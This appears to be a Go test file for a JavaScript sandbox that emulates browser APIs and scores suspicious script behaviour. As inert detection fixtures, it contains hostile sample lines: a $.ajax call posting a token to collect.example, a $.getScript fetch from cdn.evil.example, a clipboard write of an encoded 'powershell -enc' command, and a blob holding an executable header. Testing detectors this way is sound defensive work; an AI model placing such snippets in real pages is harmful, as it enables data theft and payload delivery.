// internal/browser/jsbind/browser_test.go
package jsbind

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/xkilldash9x/jsbox/internal/analysis/dynamic"
)

const sampleJWT = "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9." +
	"eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ." +
	"SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c"

func TestCookieJar(t *testing.T) {
	t.Run("should hide HttpOnly cookies from reads", func(t *testing.T) {
		te := SetupTest(t, "")
		te.MustRunJS(`document.cookie = "a=1"; document.cookie = "sid=2; HttpOnly; Secure"; document.cookie = "b=3"`)
		assert.Equal(t, "a=1; b=3", te.MustRunJS(`document.cookie`).String())

		writes := te.Events("document.cookie.write")
		require.Len(t, writes, 3)
		assert.True(t, metaBool(t, writes[1], "http_only"))
		assert.Equal(t, 0, writes[1].Severity, "both flags set")
	})

	t.Run("should remove a cookie on Max-Age=0", func(t *testing.T) {
		te := SetupTest(t, "")
		te.MustRunJS(`document.cookie = "a=1"; document.cookie = "b=2"; document.cookie = "a=; Max-Age=0"`)
		assert.Equal(t, "b=2", te.MustRunJS(`document.cookie`).String())
	})

	t.Run("should report a JWT written to a cookie", func(t *testing.T) {
		te := SetupTest(t, "")
		te.MustRunJS(`document.cookie = "auth=` + sampleJWT + `"`)
		found := te.Findings("jwt_in_client_storage")
		require.Len(t, found, 1)
		assert.Equal(t, "auth", found[0].Features["key"])

		ev := te.MustEvent("document.cookie.write")
		assert.True(t, metaBool(t, ev, "jwt"))
		sub, ok := ev.Metadata.Get("jwt_subject")
		require.True(t, ok)
		assert.Equal(t, "1234567890", sub.String())
	})
}

func TestWebStorage(t *testing.T) {
	te := SetupTest(t, "")
	res := te.MustRunJS(`
		localStorage.setItem("theme", "dark");
		localStorage.setItem("password", "hunter2");
		sessionStorage.setItem("x", "1");
		[localStorage.getItem("password"), localStorage.length, localStorage.key(0),
		 localStorage.getItem("missing") === null, sessionStorage.length].join(",");
	`)
	assert.Equal(t, "hunter2,2,password,true,1", res.String())

	set := te.Events("localStorage.setItem")
	require.Len(t, set, 2)
	assert.Zero(t, set[0].Severity)
	assert.Equal(t, 7, set[1].Severity)
	assert.Equal(t, dynamic.EventStorageAccess, set[1].Type)

	found := te.Findings("sensitive_data_storage")
	require.Len(t, found, 1)
	assert.Equal(t, "password", found[0].Snippet)

	te.MustRunJS(`localStorage.clear()`)
	assert.Equal(t, int64(0), te.MustRunJS(`localStorage.length`).ToInteger())
}

func TestNavigation(t *testing.T) {
	t.Run("should flag a javascript: redirect", func(t *testing.T) {
		te := SetupTest(t, "")
		te.MustRunJS(`location.href = "javascript:alert(document.cookie)"`)
		ev := te.MustEvent("location.href")
		assert.Equal(t, dynamic.EventLocationChange, ev.Type)
		assert.Equal(t, 7, ev.Severity)
		assert.True(t, metaBool(t, ev, "javascript_url"))
		assert.Len(t, te.Findings("malicious_redirect"), 1)
		assert.Empty(t, te.AC.URLs.URLs(), "javascript: targets are not URLs")
	})

	t.Run("should score a plain redirect below the finding threshold", func(t *testing.T) {
		te := SetupTest(t, "")
		te.MustRunJS(`location.assign("https://example.com/next")`)
		ev := te.MustEvent("location.assign")
		assert.Equal(t, 4, ev.Severity)
		assert.Empty(t, te.Findings("malicious_redirect"))
		assert.Contains(t, te.AC.URLs.URLs(), "https://example.com/next")
	})

	t.Run("should record window.open and return a usable popup", func(t *testing.T) {
		te := SetupTest(t, "")
		res := te.MustRunJS(`var w = window.open("https://popup.example/", "_blank"); w.closed + ":" + (w.location.href)`)
		assert.Equal(t, "false:https://popup.example/", res.String())
		ev := te.MustEvent("window.open")
		assert.Equal(t, dynamic.EventLocationChange, ev.Type)
	})

	t.Run("should alias the window object", func(t *testing.T) {
		te := SetupTest(t, "")
		assert.True(t, te.MustRunJS(`window === self && window === top && window.window === globalThis`).ToBoolean())
	})
}

func TestPostMessage(t *testing.T) {
	te := SetupTest(t, "")
	te.MustRunJS(`
		var got = "";
		window.addEventListener("message", function (e) { got = e.data; });
		window.postMessage("hello", "*");
	`)
	assert.Equal(t, "", te.MustRunJS(`got`).String(), "delivery is deferred")
	te.Drain()
	assert.Equal(t, "hello", te.MustRunJS(`got`).String())
	assert.Equal(t, 3, te.MustEvent("window.postMessage").Severity)
}

func TestJQuery(t *testing.T) {
	t.Run("should run ready callbacks from the job queue", func(t *testing.T) {
		te := SetupTest(t, "<html><body><div id='x' class='c'>old</div></body></html>")
		te.MustRunJS(`var ready = false; $(function () { ready = true; });`)
		assert.False(t, te.MustRunJS(`ready`).ToBoolean())
		te.Drain()
		assert.True(t, te.MustRunJS(`ready`).ToBoolean())
	})

	t.Run("should manipulate the DOM through collections", func(t *testing.T) {
		te := SetupTest(t, "<html><body><div id='x' class='c'>old</div></body></html>")
		res := te.MustRunJS(`
			$('#x').text('new');
			$('body').append('<p id="q">hi</p>');
			[$('.c').text(), document.getElementById('q').textContent, $('#x').length].join(",");
		`)
		assert.Equal(t, "new,hi,1", res.String())
		assert.NotEmpty(t, te.Events("jQuery.append"))
	})

	t.Run("should treat unknown plugin methods as chainable", func(t *testing.T) {
		te := SetupTest(t, "<html><body><div id='x'></div></body></html>")
		res := te.MustRunJS(`$('#x').tooltip().fadeIn(200).css('color', 'red').length`)
		assert.Equal(t, int64(1), res.ToInteger())
	})

	t.Run("should record ajax and defer its callbacks", func(t *testing.T) {
		te := SetupTest(t, "")
		te.MustRunJS(`
			var done = false;
			$.ajax({url: "https://collect.example/log", type: "POST", data: "token=abc", success: function () { done = true; }});
		`)
		ev := te.MustEvent("jQuery.ajax")
		assert.Equal(t, dynamic.EventDataExfiltration, ev.Type)
		assert.Len(t, te.Findings("sensitive_data_exfiltration"), 1)
		assert.Contains(t, te.AC.URLs.URLs(), "https://collect.example/log")

		te.Drain()
		assert.True(t, te.MustRunJS(`done`).ToBoolean())
	})

	t.Run("should treat getScript as script injection", func(t *testing.T) {
		te := SetupTest(t, "")
		te.MustRunJS(`$.getScript("https://cdn.evil.example/stage2.js")`)
		events := te.Events("jQuery.getScript")
		require.Len(t, events, 2)
		assert.Equal(t, dynamic.EventNetworkRequest, events[0].Type)
		assert.Equal(t, dynamic.EventDOMManipulation, events[1].Type)
	})
}

func TestClipboardHijack(t *testing.T) {
	te := SetupTest(t, "")
	te.MustRunJS(`navigator.clipboard.writeText("powershell -enc SQBFAFgAUABvAHcA")`)

	ev := te.MustEvent("navigator.clipboard.writeText")
	assert.Equal(t, dynamic.EventClipboardAccess, ev.Type)
	assert.Equal(t, 9, ev.Severity)
	assert.Len(t, te.Findings("clipboard_hijack"), 1)
}

func TestBlobSmuggling(t *testing.T) {
	te := SetupTest(t, "")
	res := te.MustRunJS(`
		var b = new Blob(["MZ\x00\x00payload"], {type: "application/octet-stream"});
		var u = URL.createObjectURL(b);
		b.size + ":" + u.indexOf("blob:");
	`)
	assert.Equal(t, "11:0", res.String())

	ev := te.MustEvent("Blob")
	assert.Equal(t, dynamic.EventBlobCreate, ev.Type)
	assert.Equal(t, 6, ev.Severity)
	assert.Len(t, te.Findings("blob_payload_smuggling"), 1)
	assert.Len(t, te.Events("URL.createObjectURL"), 1)
}

func TestFallbackObjects(t *testing.T) {
	t.Run("should absorb arbitrary use of unemulated globals", func(t *testing.T) {
		te := SetupTest(t, "")
		res := te.MustRunJS(`
			chrome.runtime.sendMessage("x").foo.bar;
			new Notification("hi").close();
			[typeof chrome.then, String(chrome.app), "k" in chrome].join(",");
		`)
		assert.Equal(t, "undefined,,true", res.String())
	})

	t.Run("should install fallbacks for free capitalised identifiers", func(t *testing.T) {
		te := SetupTest(t, "")
		code := `var Local = 1; new Gadget().run(); Widget.init();`
		installed := te.S.PrepareFallbacks(code)
		assert.ElementsMatch(t, []string{"Gadget", "Widget"}, installed)
		te.MustRunJS(code)
		assert.Subset(t, te.S.Fallbacks(), []string{"Gadget", "Widget", "chrome"})
	})

	t.Run("should install fallbacks for called or dereferenced free identifiers", func(t *testing.T) {
		te := SetupTest(t, "")
		code := `
			fbq('init', '1');
			_paq.push(['trackPageView']);
			ym[0];
			var local = {};
			local.x = 1;
			if (typeof define === "function" && define.amd) { define([], function () {}); }
		`
		installed := te.S.PrepareFallbacks(code)
		assert.ElementsMatch(t, []string{"fbq", "_paq", "ym"}, installed)
		assert.NotContains(t, te.S.Fallbacks(), "define", "module loaders stay undefined")
		te.MustRunJS(code)
	})

	t.Run("should recover from a ReferenceError", func(t *testing.T) {
		te := SetupTest(t, "")
		_, err := te.RunJS(`mysteryLib.go()`)
		require.Error(t, err)
		name, ok := te.S.RecoverReferenceError(err)
		assert.True(t, ok)
		assert.Equal(t, "mysteryLib", name)
		te.MustRunJS(`mysteryLib.go()`)
	})
}

func TestSynchronousThenables(t *testing.T) {
	te := SetupTest(t, "")
	res := te.MustRunJS(`
		var order = [];
		fetch("https://api.example.com/").then(function (r) {
			order.push("then:" + r.status);
			return r.text();
		}).then(function (body) {
			order.push("text:" + body.length);
		}).catch(function () { order.push("never"); });
		order.push("after");
		order.join(",");
	`)
	assert.Equal(t, "then:200,text:0,after", res.String())
}

func TestWasmMinerScan(t *testing.T) {
	te := SetupTest(t, "")
	te.MustRunJS(`
		var src = "\x00asm\x01\x00\x00\x00cryptonight_hash";
		var bytes = new Uint8Array(src.length);
		for (var i = 0; i < src.length; i++) { bytes[i] = src.charCodeAt(i); }
		var ok = WebAssembly.validate(bytes);
		WebAssembly.instantiate(bytes).then(function (r) { r.instance.exports.main(); });
	`)
	assert.True(t, te.MustRunJS(`ok`).ToBoolean())

	ev := te.MustEvent("WebAssembly.instantiate")
	assert.Equal(t, dynamic.EventWasmLoad, ev.Type)
	assert.Equal(t, 9, ev.Severity)
	assert.Len(t, te.Findings("wasm_cryptominer"), 1)
}
